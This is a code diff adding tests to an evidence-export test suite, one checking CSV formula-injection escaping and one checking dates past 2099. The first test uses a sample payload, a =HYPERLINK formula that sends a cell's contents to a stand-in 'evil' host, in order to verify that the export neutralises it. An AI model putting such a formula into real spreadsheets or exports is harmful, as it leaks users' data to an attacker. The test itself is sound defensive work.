@@ -141,6 +141,26 @@ describe('the evidence export', () => {
     }
   });
 
+  it('writes a cell that looks like a formula as text, so a spreadsheet does not run it', () => {
+    const raised = raiseChange(h.ctx, rita, {
+      draft: makeDraft({ title: '=HYPERLINK("http://evil/?"&A1,"x")' }),
+    });
+    if (!raised.ok) throw new Error(JSON.stringify(raised.error));
+    const changes = strFromU8(unzipSync(buildEvidenceBundle(h.ctx, PERIOD, 'csv').zip)['changes.csv']!);
+    expect(changes).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(changes).toContain("'=HYPERLINK");
+  });
+
+  it('exports a period that ends past 2099 (zip times stop there)', () => {
+    history();
+    const bundle = buildEvidenceBundle(
+      h.ctx,
+      { from: PERIOD.from, to: new Date('2100-01-01T00:00:00Z') },
+      'json',
+    );
+    expect(Object.keys(unzipSync(bundle.zip))).toContain('changes.json');
+  });
+
   it('writes the same records as JSON, and an empty period as headers only', () => {
     history();
     const json = unzipSync(buildEvidenceBundle(h.ctx, PERIOD, 'json').zip);
